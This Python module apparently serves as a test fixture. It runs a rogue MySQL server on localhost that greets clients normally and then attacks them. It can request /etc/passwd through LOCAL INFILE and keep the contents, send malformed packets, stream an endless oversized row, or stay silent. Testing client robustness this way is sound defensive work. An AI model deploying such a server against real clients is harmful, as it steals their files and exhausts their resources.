"""A MySQL server that means harm: it greets like any other, then asks for a file, or never ends."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Literal

Trick = Literal["local_infile", "garbage", "endless", "mute"]
WANTED = b"/etc/passwd"
_GREETING = (
    b"\x0a5.7.44-rogue\x00"
    + struct.pack("<I", 7)
    + b"abcdefgh\x00"
    + struct.pack("<H", 0xFFFF & ~0x0800)  # no TLS
    + b"\x21"
    + struct.pack("<H", 2)
    + struct.pack("<H", 0x000F)
    + b"\x15"
    + bytes(10)
    + b"ijklmnopqrst\x00mysql_native_password\x00"
)
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


@dataclass
class Rogue:
    """What was done to whoever connected."""

    trick: Trick
    port: int = 0
    asked: int = 0
    stolen: bytes = b""
    polite: int = 0
    _ended: threading.Event = field(default_factory=threading.Event)

    def serve(self, listener: socket.socket) -> None:
        """Take every connection."""
        with suppress(OSError):
            while True:
                client, _ = listener.accept()
                threading.Thread(target=self._talk, args=(client,), daemon=True).start()

    def _talk(self, client: socket.socket) -> None:
        with suppress(OSError, ValueError), client:
            if self.trick == "mute":
                self.asked += 1
                self._ended.wait(60)
                return
            _send(client, 0, _GREETING)
            _receive(client)
            _send(client, 2, _OK)
            count = 0
            while _receive(client):
                count += 1
                if count <= self.polite:
                    _send(client, 1, _OK)
                    continue
                self._attack(client)

    def _attack(self, client: socket.socket) -> None:
        self.asked += 1
        if self.trick == "local_infile":
            _send(client, 1, b"\xfb" + WANTED)
            self.stolen += _receive(client)
        elif self.trick == "garbage":
            client.sendall(b"\xff\xff\x00\x01" + bytes(range(256)) * 300)
        else:
            _send_endless_row(client, self._ended)

    def close(self) -> None:
        """End what waits."""
        self._ended.set()


def _send(client: socket.socket, number: int, body: bytes) -> None:
    client.sendall(struct.pack("<I", len(body))[:3] + bytes([number]) + body)


def _receive(client: socket.socket) -> bytes:
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        raise ValueError
    return client.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL)


def _send_endless_row(client: socket.socket, ended: threading.Event) -> None:
    """Send one column, and of its first row packets of 16 MB without an end."""
    column = b"\x03def" + b"\x00" * 3 + b"\x01a\x01a" + b"\x0c\x21\x00"
    _send(client, 1, b"\x01")
    _send(client, 2, column + struct.pack("<I", 2**24) + b"\xfd" + bytes(5))
    _send(client, 3, b"\xfe\x00\x00\x02\x00")
    number, chunk = 4, bytes(2**24 - 1)
    while not ended.is_set():
        client.sendall(b"\xff\xff\xff" + bytes([number % 256]) + chunk)
        number += 1


@contextmanager
def rogue_mysql(trick: Trick, *, polite: int = 0) -> Iterator[Rogue]:
    """Run a rogue that answers the first `polite` commands as a server would."""
    rogue = Rogue(trick, polite=polite)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        rogue.port = listener.getsockname()[1]
        threading.Thread(target=rogue.serve, args=(listener,), daemon=True).start()
        try:
            yield rogue
        finally:
            rogue.close()
            listener.shutdown(socket.SHUT_RDWR)
